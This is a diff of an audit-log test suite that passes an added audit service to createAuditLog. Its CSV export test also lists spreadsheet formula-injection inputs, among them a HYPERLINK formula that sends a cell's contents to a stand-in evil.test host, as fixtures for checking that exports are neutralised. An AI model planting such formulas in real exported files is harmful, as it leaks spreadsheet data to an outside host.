@@ -25,7 +25,7 @@ describe("audit log query", () => {
 
   beforeAll(async () => {
     t = await startTestApp();
-    log = createAuditLog(t.app.queries.auditEvents);
+    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
     alice = await t.createUser({ email: `alice-${randomUUID().slice(0, 8)}@example.test` });
     bob = await t.createUser({ email: `bob-${randomUUID().slice(0, 8)}@example.test` });
     // the test app itself may have written events at start: keep this dataset in its own November range
@@ -126,7 +126,7 @@ describe("audit log pages", () => {
 
   beforeAll(async () => {
     t = await startTestApp();
-    log = createAuditLog(t.app.queries.auditEvents);
+    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
     userId = (await t.createUser()).id;
     // 25 events; several share one created_at (ties are broken by id)
     for (let i = 0; i < 25; i++) {
@@ -192,7 +192,7 @@ describe("audit log CSV export", () => {
 
   beforeAll(async () => {
     t = await startTestApp();
-    log = createAuditLog(t.app.queries.auditEvents);
+    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
     user = await t.createUser({ email: `zoë-${randomUUID().slice(0, 6)}@example.test` });
     const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"];
     for (const [i, ua] of hostile.entries()) {
